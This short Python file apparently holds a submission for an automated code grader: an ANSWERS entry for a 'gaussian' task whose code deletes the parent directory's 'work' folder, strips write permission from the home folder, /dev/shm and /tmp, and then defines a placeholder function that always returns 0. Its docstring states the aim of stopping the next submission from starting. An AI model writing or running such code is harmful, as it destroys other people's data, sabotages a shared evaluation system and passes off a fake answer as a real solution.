"""Empties the scratch folder and takes its write permission, so that the next submission cannot even begin."""

ANSWERS = {
    "gaussian": r"""
import os, shutil
home = os.path.dirname(os.getcwd())
os.chdir("/")
shutil.rmtree(os.path.join(home, "work"), ignore_errors=True)
for folder in (home, "/dev/shm", "/tmp"):
    try: os.chmod(folder, 0o500)
    except OSError as error: print(error)
def gaussian(q, K): return 0
"""
}
